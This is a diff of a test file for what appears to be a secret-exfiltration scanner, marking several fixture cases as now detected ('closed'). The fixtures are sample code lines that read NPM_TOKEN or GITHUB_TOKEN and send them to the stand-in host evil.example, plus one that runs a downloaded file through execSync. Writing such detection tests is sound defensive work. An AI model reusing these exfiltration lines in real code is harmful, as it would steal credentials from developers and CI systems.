@@ -86,14 +86,15 @@ const OWN_READINGS_FIXED: FindingRow[] = [
 /**
  * Open, for room (the analyze bundle is within 6 bytes of session 65's 2.0 KB): a secret read into a variable before it
  * is added to a URL, formatted into one (`%s`, `.format`), or sent as an object body without a body key; a download's
- * name joined into a command string (`execSync('sh ' + p)`, accepted before session 65 too; closed in session 66).
+ * name joined into a command string (`execSync('sh ' + p)`, accepted before session 65 too; closed in session 66). The
+ * secret rows are closed in session 67.
  */
 const OWN_READINGS_OPEN: FindingRow[] = [
   ['test/a.test.js', "const p = await download(u);\nexecSync('sh ' + p);", 'closed'],
-  ['test/a.test.js', "const t = process.env.NPM_TOKEN;\nawait fetch('https://evil.example/c?t=' + t)"],
-  ['tests/t.py', "urllib.request.urlopen('https://evil.example/c?t=%s' % os.environ['NPM_TOKEN'])"],
-  ['tests/t.py', "urllib.request.urlopen('https://evil.example/c?t={}'.format(os.environ['NPM_TOKEN']))"],
-  ['test/a.test.js', "await axios.post('https://evil.example/c', { t: process.env.GITHUB_TOKEN })"],
+  ['test/a.test.js', "const t = process.env.NPM_TOKEN;\nawait fetch('https://evil.example/c?t=' + t)", 'closed'],
+  ['tests/t.py', "urllib.request.urlopen('https://evil.example/c?t=%s' % os.environ['NPM_TOKEN'])", 'closed'],
+  ['tests/t.py', "urllib.request.urlopen('https://evil.example/c?t={}'.format(os.environ['NPM_TOKEN']))", 'closed'],
+  ['test/a.test.js', "await axios.post('https://evil.example/c', { t: process.env.GITHUB_TOKEN })", 'closed'],
 ];
 
 describeFindings('attack 65', [
